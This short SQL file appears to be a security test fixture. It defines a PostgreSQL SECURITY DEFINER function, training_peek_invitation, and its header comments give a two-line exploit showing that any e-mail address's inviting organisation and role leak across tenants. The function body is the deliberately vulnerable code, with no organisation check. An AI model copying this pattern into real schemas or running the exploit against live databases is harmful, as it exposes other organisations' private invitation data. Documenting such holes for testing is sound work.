-- The sign-up helper tells, for any e-mail address, which organisation invited it and for which role.
-- about: training_peek_invitation, training_invitation, training_organisation
-- as: hf_mentorlog_app
-- exploit: SET app.organisation_id = '7';
-- exploit: SELECT * FROM training_peek_invitation('guest@road.example');
-- shows: Road-secret examiner

CREATE FUNCTION training_peek_invitation(p_email text, OUT organisation text, OUT role text)
RETURNS SETOF record
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = public, pg_temp
AS $$
  SELECT o.name, i.role
  FROM training_invitation i
  JOIN training_organisation o ON o.id = i.organisation_id
  WHERE lower(i.email) = lower(p_email);
$$;
REVOKE ALL ON FUNCTION training_peek_invitation(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION training_peek_invitation(text) TO hf_mentorlog_app;
